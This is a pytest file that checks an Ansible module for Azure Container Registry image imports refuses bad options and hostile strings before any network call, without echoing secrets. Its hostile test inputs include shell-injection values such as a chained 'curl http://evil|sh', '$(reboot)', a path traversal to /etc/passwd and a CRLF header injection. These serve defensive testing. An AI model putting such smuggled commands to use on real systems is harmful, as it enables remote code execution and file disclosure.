# Copyright (c) 2026 acrops.registry contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""acr_import refuses bad input before any network call, with a message that says what to write instead.

Every case runs the real module entry point (main(), through AnsibleModule's argument handling) with the client
factory replaced by a trap and sockets disabled: a case that got past validation would hit the trap. Hostile strings
(newlines, '..', shell metacharacters, look-alike characters, 10 MB values) must be refused with a short message that
names the option and never echoes a secret.
"""

from __future__ import annotations

import json

import pytest

from ansible_collections.acrops.registry.plugins.module_utils import acr_import_task
from ansible_collections.acrops.registry.plugins.modules import acr_import
from ansible_collections.acrops.registry.tests.unit.plugins.modules.module_main import run_main

DIGEST = "sha256:" + "a" * 64
SUBSCRIPTION = "00000000-1111-2222-3333-444444444444"
REGISTRY_ID = "/subscriptions/%s/resourceGroups/rg-dev/providers/Microsoft.ContainerRegistry/registries/devregistry" % SUBSCRIPTION
BIG = "a" * (10 * 1024 * 1024)
SECRET = "Planted-Secret-7f3c9e-do-not-print"
# Words that show a message tells the user what to do (or the rule to follow), not only that something is wrong.
ADVICE = ("write", "e.g.", "use ", "set ", "give", "omit", "drop", "remove", "retype", "list ", "instead", "check ", "must", "at most",
          "at least", "listed twice", "two sources")
# Refusals worded by AnsibleModule itself (argument spec), not by the module.
ANSIBLE_WORDING = ("mutually exclusive", "one of the following", "dictionary requested", "Unsupported parameters")


@pytest.fixture(autouse=True)
def offline(network_trap):
    """Every case runs with acr_import's client factory and all sockets trapped."""
    network_trap(acr_import_task)


def run_module(params):
    return run_main(acr_import.main, params)


def refused(params, option):
    """The module failed in validation, and its message names the option at fault (option: a word, or a tuple of
    words any of which will do). A value that got past validation
    fails too (the trap's exception, caught by the module's catch-all): that failure carries an `exception` and the
    trap's words, and is not a refusal."""
    result = run_module(params)
    assert result.get("failed") is True, result
    assert result.get("changed") is False or "changed" not in result
    assert "exception" not in result, "not a validation failure: %s" % result["exception"][-600:]
    assert "NetworkTouched" not in result["msg"] and "validation let the input through" not in result["msg"], result["msg"][:600]
    if "\\x00" in repr(params) and ANSIBLE_NUL_REFUSAL in result["msg"]:
        return result["msg"]  # refused by AnsibleModule itself, before the module's code (and any call) ran
    options = option if isinstance(option, tuple) else (option,)
    assert any(word in result["msg"] for word in options), "the message does not name %s: %r" % (" or ".join(options), result["msg"][:600])
    return result["msg"]


# ansible-core 2.21's AnsibleModule logs its arguments to syslog before the module's own code runs, and a NUL character
# there fails the module in Ansible's words. (In-process, plugin_utils/in_process.py, the module's validation refuses it.)
ANSIBLE_NUL_REFUSAL = "Failed to log to syslog (embedded null character)"


BASE = dict(registry="myregistry", subscription_id=SUBSCRIPTION)


def case(**params):
    return dict(BASE, **params)


# ---- nonsense option combinations --------------------------------------------------------------------------------
NONSENSE = [
    # (id, params, fragments that must all be in the message)
    ("username-without-password", case(source="nginx:1.25", source_username="bot"), ["without source_password", "source_password"]),
    ("batch-username-without-password", case(images=[{"source": "nginx:1.25", "source_username": "bot"}]), ["images[0]", "without source_password"]),
    # Module-level credentials beside images once became every entry's, whatever its registry (issue 20): refused, with the way out.
    ("module-credentials-with-images", case(source_username="bot", source_password="p", images=[{"source": "nginx:1.25"}]),
     ["source_credentials", "entries on HOST only", "each entry its own"]),
    ("module-token-with-images", case(source_password="p", images=[{"source": "ghcr.io/o/a:1"}]), ["source_credentials"]),
    ("source-credentials-url-key", case(source="nginx:1", source_credentials={"https://docker.io": {"password": "pw-1234"}}),
     ["is not a registry host", "no scheme"]),
    ("source-credentials-name-key", case(source="nginx:1", source_credentials={"corp": {"password": "pw-1234"}}), ["is not a registry host"]),
    ("source-credentials-hidden-key", case(source="nginx:1", source_credentials={"docker.io\n": {"password": "pw-1234"}}),
     ["is not a registry host"]),
    ("source-credentials-no-password", case(source="nginx:1", source_credentials={"docker.io": {"username": "bot-1234"}}),
     ["source_credentials.docker.io", "with a password"]),
    ("source-credentials-unknown-key", case(source="nginx:1", source_credentials={"docker.io": {"password": "pw-1234", "token": "tk-1234"}}),
     ["{username, password}"]),
    ("source-credentials-one-host-twice", case(images=[{"source": "nginx:1"}],
                                               source_credentials={"docker.io": {"password": "pw-1234"}, "Index.Docker.IO": {"password": "pw-5678"}}),
     ["docker.io twice", "remove one"]),
    ("source-registry-and-host", case(source="ghcr.io/org/app:1", source_registry="devregistry"), ["names a registry host", "'org/app:1'"]),
    ("source-registry-and-password", case(source="app:1", source_registry="devregistry", source_password="x"), ["source_registry", "drop"]),
    ("empty-targets", case(source="nginx:1.25", targets=[]), ["empty list", "omit it", "nginx:1.25"]),
    ("empty-batch-targets", case(images=[{"source": "nginx:1.25", "targets": []}]), ["empty list"]),
    ("digest-only-no-targets", case(source="app@" + DIGEST), ["digest only", "set targets"]),
    ("digest-only-untagged-target", case(source="app@" + DIGEST, targets=["app"]), ["no tag", "app:TAG"]),
    ("target-with-digest", case(source="nginx:1.25", targets=["web@" + DIGEST]), ["has a digest", "'web'"]),
    ("target-tag-and-digest", case(source="nginx:1.25", targets=["web:1@" + DIGEST]), ["has a digest", "'web:1'"]),
    ("two-digests", case(source="nginx@%s@%s" % (DIGEST, DIGEST)), ["more than one '@'", "write one digest"]),
    ("bad-digest", case(source="nginx@sha256:abc"), ["digest", "64"]),
    ("untagged-with-tag", case(source="nginx:1.25", untagged_repositories=["archive/nginx:1"]), ["has a tag", "'archive/nginx'"]),
    ("untagged-with-digest", case(source="nginx:1.25", untagged_repositories=["archive/nginx@" + DIGEST]), ["has a digest"]),
    ("uppercase-source", case(source="Library/NGINX:1.25"), ["lowercase", "write 'nginx'"]),
    ("uppercase-target", case(source="nginx:1.25", targets=["Mirror/nginx:1.25"]), ["lowercase", "'mirror/nginx'"]),
    ("uppercase-untagged", case(source="nginx:1.25", untagged_repositories=["Archive/nginx"]), ["lowercase", "'archive/nginx'"]),
    ("uppercase-batch", case(images=[{"source": "GHCR.io/Org/App:1"}]), ["lowercase"]),
    ("repository-too-long", case(source="nginx:1.25", targets=["a" * 256 + ":1"]), ["too long", "255"]),
    ("tag-too-long", case(source="nginx:" + "1" * 129), ["128"]),
    ("reference-too-long", case(source="a/" * 600 + "b:1"), ["longer than 1024"]),
    ("duplicate-target", case(source="nginx:1.25", targets=["web:1", "web:1"]), ["listed twice"]),
    ("target-two-sources", case(images=[{"source": "nginx:1.25", "targets": ["web:1"]}, {"source": "httpd:2", "targets": ["web:1"]}]),
     ["two sources", "images[0]", "images[1]"]),
    # The naming rule's defaults collide too: MCR and Docker Hub both drop their host, ACR sources keep their path alone.
    ("default-target-two-sources", case(images=[{"source": "mcr.microsoft.com/dotnet/aspnet:8.0"}, {"source": "dotnet/aspnet:8.0"}]),
     ["target dotnet/aspnet:8.0", "two sources", "images[0] (mcr.microsoft.com/dotnet/aspnet:8.0)", "images[1] (docker.io/dotnet/aspnet:8.0)"]),
    ("default-target-two-acr-sources", case(images=[{"source": "devregistry.azurecr.io/team/app:1"},
                                                    {"source": "team/app:1", "source_registry": "otherregistry"}]),
     ["target team/app:1", "devregistry.azurecr.io/team/app:1", "images[1]"]),
    ("default-target-of-ipv6-host", case(source="[::1]:5000/team/app:1"), ["[::1]:5000", "give targets"]),
    ("login-server-as-registry", case(registry="myregistry.azurecr.io", source="nginx:1"), ["not a registry name", "'myregistry'"]),
    ("registry-too-short", case(registry="acr", source="nginx:1"), ["not a registry name", "5-50"]),
    ("registry-too-long", case(registry="r" * 51, source="nginx:1"), ["not a registry name", "5-50"]),
    ("registry-hyphen", case(registry="my-registry", source="nginx:1"), ["not a registry name"]),
    ("registry-empty", case(registry="", source="nginx:1"), ["not a registry name"]),
    ("registry-trailing-newline", case(registry="myregistry\n", source="nginx:1"), ["registry"]),
    ("source-registry-bad-name", case(source="app:1", source_registry="dev registry"), ["source_registry", "e.g."]),
    ("source-registry-bad-id", case(source="app:1", source_registry=REGISTRY_ID.replace("rg-dev", "rg/../x")), ["source_registry"]),
    ("source-registry-id-bad-subscription", case(source="app:1", source_registry=REGISTRY_ID.replace(SUBSCRIPTION, "..")), ["source_registry"]),
    ("batch-source-registry-bad", case(images=[{"source": "app:1", "source_registry": "x;y"}]), ["source_registry", "images[0]"]),
    ("resource-group-dotdot", case(source="nginx:1", resource_group=".."), ["resource_group", "write"]),
    ("resource-group-slash", case(source="nginx:1", resource_group="rg/../../other"), ["resource_group"]),
    ("resource-group-too-long", case(source="nginx:1", resource_group="g" * 91), ["resource_group", "90"]),
    ("subscription-not-guid", case(source="nginx:1", subscription_id="my-subscription"), ["subscription_id", "GUID"]),
    ("subscription-traversal", case(source="nginx:1", subscription_id="../../providers"), ["subscription_id"]),
    ("ca-bundle-missing", case(source="nginx:1", ca_bundle="/nonexistent/acrops/ca.pem"), ["ca_bundle", "does not exist", "PEM"]),
    ("tenant-traversal", case(source="nginx:1", tenant="../evil", client_id="c", secret=SECRET), ["tenant"]),
    ("unknown-cloud", case(source="nginx:1", cloud_environment="AzureMoonCloud"), ["unknown cloud_environment", "AzureCloud"]),
    ("http-cloud", case(source="nginx:1", cloud_environment="http://management.example.com"), ["https://"]),
    ("secret-without-client-id", case(source="nginx:1", secret=SECRET), ["client_id"]),
    ("service-principal-without-tenant", case(source="nginx:1", client_id="c", secret=SECRET), ["tenant"]),
    ("empty-images", case(images=[]), ["empty list", "use source"]),
    ("source-and-images", case(source="nginx:1", images=[{"source": "httpd:2"}]), ["mutually exclusive"]),
    ("neither-source-nor-images", case(), ["source", "images"]),
    ("empty-source", case(source=""), ["empty"]),
    ("blank-source", case(source="   "), ["empty", "write"]),
    ("concurrency-zero", case(source="nginx:1", concurrency=0), ["concurrency", "at least 1"]),
    ("concurrency-negative", case(source="nginx:1", concurrency=-4), ["concurrency", "at least 1"]),
    ("timeout-zero", case(source="nginx:1", timeout=0), ["timeout", "at least 1"]),
    ("polling-interval-zero", case(source="nginx:1", polling_interval=0), ["polling_interval", "at least 1"]),
    ("url-as-source", case(source="https://ghcr.io/org/app:1"), ["URL", "drop"]),
    ("image-id-as-source", case(source="f" * 64), ["64-digit hex"]),
    ("batch-entry-not-a-mapping", case(images=["nginx:1"]), ["dictionary"]),
    ("batch-unknown-key", case(images=[{"source": "nginx:1", "tag": "2"}]), ["tag"]),
    ("policy-source-with-tag", case(source="nginx:1.25", tag_policy={"latest": 3}), ["names a tag", "'nginx'"]),
    ("policy-target-with-tag", case(source="nginx", tag_policy={"latest": 3}, targets=["web:1"]), ["has a tag", "'web'"]),
    ("policy-bad-regex", case(source="nginx", tag_policy={"regex": "1.(25"}), ["tag_policy", "not a valid regular expression"]),
    ("policy-empty", case(source="nginx", tag_policy={}), ["tag_policy", "empty"]),
    ("policy-batch-bad-semver", case(images=[{"source": "nginx", "tag_policy": {"semver": "banana"}}]), ["images[0]", "not a version"]),
    ("policy-latest-zero", case(source="nginx", tag_policy={"latest": 0}), ["latest", "at least 1"]),
    ("policy-unknown-key", case(source="nginx", tag_policy={"tag_regex": "1.*"}), ["tag_regex"]),
    ("policy-with-untagged", case(source="nginx", tag_policy={"latest": 1}, untagged_repositories=["a"]), ["untagged_repositories", "drop"]),
    ("policy-beside-images", case(images=[{"source": "nginx:1"}], tag_policy={"latest": 1}), ["images[N].tag_policy"]),
    ("bad-platform", case(source="nginx:1", platform="amd64"), ["os/architecture", "linux/amd64"]),
    ("bad-batch-platform", case(images=[{"source": "nginx:1", "platform": "linux amd64"}]), ["images[0]", "platform"]),
    ("max-tags-zero", case(source="nginx", tag_policy={"latest": 1}, max_tags=0), ["max_tags", "at least 1"]),
    ("tag-list-budget-zero", case(source="nginx", tag_policy={"latest": 1}, tag_list_budget=0), ["tag_list_budget", "at least 1"]),
]


# The option a message names, where its wording is not the option's own key (the default: any option the case sets).
NAMED = {
    "empty-batch-targets": "targets",
    "target-with-digest": "invalid target",
    "target-tag-and-digest": "invalid target",
    "untagged-with-tag": "invalid untagged repository",
    "untagged-with-digest": "invalid untagged repository",
    "uppercase-target": "invalid target",
    "uppercase-untagged": "invalid untagged repository",
    "uppercase-batch": "invalid source",
    "repository-too-long": "invalid target",
    "duplicate-target": "target web:1",
    "service-principal-without-tenant": "set tenant",
    "neither-source-nor-images": "source, images",
    "batch-entry-not-a-mapping": "dictionary requested",
}


def option_of(case_id, params):
    return NAMED.get(case_id) or tuple(key for key in params if key not in BASE or params[key] != BASE[key])


@pytest.mark.parametrize("case_id, params, fragments", NONSENSE, ids=[c[0] for c in NONSENSE])
def test_nonsense_fails_before_any_call_and_says_what_to_write(case_id, params, fragments):
    msg = refused(params, option_of(case_id, params))
    for fragment in fragments:
        assert fragment in msg, "%r not in %r" % (fragment, msg)
    if not any(words in msg for words in ANSIBLE_WORDING):
        assert any(word in msg for word in ADVICE), "no advice in %r" % msg


# ---- hostile strings ---------------------------------------------------------------------------------------------
HOSTILE = {
    "newline": "nginx\n:1",
    "trailing-newline": "nginx:1\n",
    "crlf-header": "nginx:1\r\nX-Injected: 1",
    "nul": "nginx\x00:1",
    "dotdot": "../../etc/passwd",
    "dotdot-inner": "a/../b",
    "shell-subst": "$(reboot)",
    "shell-chain": "nginx:1;curl http://evil|sh",
    "backticks": "`id`",
    "glob": "nginx:*",
    "cyrillic-lookalike": "ngi\u043dx:1",
    "fullwidth-colon": "nginx\uff1a1",
    "zero-width": "ngi\u200bnx:1",
    "rtl-override": "nginx\u202e1:",
    "huge": BIG,
}

# Options whose strings end up in URLs, paths or request bodies: every hostile value must be refused.
NAME_FIELDS = {
    "registry": lambda v: case(registry=v, source="nginx:1"),
    "resource_group": lambda v: case(resource_group=v, source="nginx:1"),
    "source": lambda v: case(source=v),
    "targets": lambda v: case(source="nginx:1", targets=[v]),
    "untagged_repositories": lambda v: case(source="nginx:1", untagged_repositories=[v]),
    "source_registry": lambda v: case(source="app:1", source_registry=v),
    "subscription_id": lambda v: case(source="nginx:1", subscription_id=v),
    "tenant": lambda v: case(source="nginx:1", tenant=v, client_id="c", secret=SECRET),
    "cloud_environment": lambda v: case(source="nginx:1", cloud_environment=v),
    "images.source": lambda v: case(images=[{"source": "nginx:1"}, {"source": v}]),
    "images.targets": lambda v: case(images=[{"source": "nginx:1", "targets": [v]}]),
    "images.source_registry": lambda v: case(images=[{"source": "app:1", "source_registry": v}]),
}
# How a message names each field: its key, or the word its reference checks use.
FIELD_NAMED = {"targets": "target", "images.targets": "target", "untagged_repositories": "untagged", "images.source": "source",
               "images.source_registry": "source_registry"}


@pytest.mark.parametrize("field", sorted(NAME_FIELDS))
@pytest.mark.parametrize("kind", sorted(HOSTILE))
def test_hostile_strings_are_refused_cleanly(field, kind):
    msg = refused(NAME_FIELDS[field](HOSTILE[kind]), FIELD_NAMED.get(field, field))
    assert len(msg) < 1500, "the message echoes the input (%d characters)" % len(msg)
    assert "\n" not in msg and "\r" not in msg and "\x00" not in msg, "the message carries the raw control character: %r" % msg[:300]
    assert "Traceback" not in msg


@pytest.mark.parametrize("field", ["label", "source_username"])
@pytest.mark.parametrize("kind", ["newline", "crlf-header", "nul", "huge"])
def test_free_text_options_refuse_control_characters_and_huge_values(field, kind):
    entry = {"source": "nginx:1", field: HOSTILE[kind]}
    if field == "source_username":
        entry["source_password"] = "p"
    msg = refused(case(images=[entry]), "images[0].%s" % field)
    assert len(msg) < 1500 and "\n" not in msg and "\x00" not in msg


@pytest.mark.parametrize("field", ["source_password", "secret"])
def test_a_huge_secret_is_refused_without_echoing_it(field):
    params = case(source="nginx:1", **{field: SECRET + BIG})
    if field == "secret":
        params.update(client_id="c", tenant="t")
    else:
        params.update(source_username="bot")
    msg = refused(params, field)
    assert SECRET not in msg and len(msg) < 500


def test_a_source_credentials_password_is_a_secret_to_validation():
    # A huge password: refused without quoting it (a name would be quoted).
    result = run_module(case(source="nginx:1", source_credentials={"docker.io": {"username": "bot", "password": SECRET + BIG}}))
    assert result.get("failed") and "exception" not in result and "source_credentials.docker.io.password" in result["msg"], result
    assert SECRET not in json.dumps(result) and len(result["msg"]) < 500, result
    # Secrets may hold any character (check_strings checks only their length): a newline in one passes validation, and
    # even the failure that follows (here the trap's) never shows it.
    result = run_module(case(source="nginx:1", source_credentials={"docker.io": {"username": "bot", "password": SECRET + "\n"}}))
    assert "validation let the input through" in result["msg"] and SECRET not in json.dumps(result), result


@pytest.mark.parametrize("field", ["source_password", "secret"])
def test_secrets_in_refusals_are_never_echoed(field):
    # Refused for another reason (bad registry): the secret appears nowhere in the output.
    params = case(registry="bad-name", source="nginx:1", **{field: SECRET})
    if field == "secret":
        params.update(client_id="c", tenant="t")
    result = run_module(params)
    assert result["failed"] and "exception" not in result and "registry" in result["msg"] and SECRET not in json.dumps(result)


# ---- what is accepted reaches the network layer (the trap), so the tests above really test validation ------------
ACCEPTED = [
    case(source="nginx:1.25"),
    case(source="nginx:1.25@" + DIGEST, targets=["web:1", "mirror/web"]),
    case(source="team/app:7", source_registry="devregistry"),
    case(source="team/app:7", source_registry="devregistry.azurecr.io"),
    case(source="team/app:7", source_registry=REGISTRY_ID),
    case(source="ghcr.io/org/app:1", source_password="token-only"),
    case(source="app@" + DIGEST, untagged_repositories=["archive/app"]),
    case(source="nginx:1", resource_group="rg-mirror_(prod).1"),
    case(source="nginx:1", resource_group="rg-\u043f\u0440\u043e\u0434"),  # Azure allows Unicode letters in resource group names
    case(source="nginx:1", tenant="contoso.onmicrosoft.com", client_id="c", secret=SECRET),
    case(source="nginx:1", cloud_environment="AzureChinaCloud"),
    case(source="nginx:1", cloud_environment="https://management.local.azurestack.external"),
    case(images=[{"source": "nginx:1"}, {"source": "ghcr.io/o/a:1"}], source_credentials={"index.docker.io": {"username": "bot-1234", "password": "pw-1234"}}),
    case(source="localhost:5000/app:1", source_credentials={"localhost:5000": {"password": "token-only"}}),
    case(images=[{"source": "nginx:1", "label": "group_vars/all.yml: acr_mirror_images__base[0]"},
                 {"source": "quay.io/prometheus/prometheus:v2.48.0", "targets": ["prometheus:v2.48.0"]}], concurrency=1),
]


@pytest.mark.parametrize("params", ACCEPTED, ids=range(len(ACCEPTED)))
def test_valid_input_gets_past_validation(params):
    # The trap's exception is a bug to acr_import: it comes back as a failed result, through the redactor.
    result = run_module(params)
    assert result["failed"] is True and "NetworkTouched: validation let the input through" in result["msg"], result
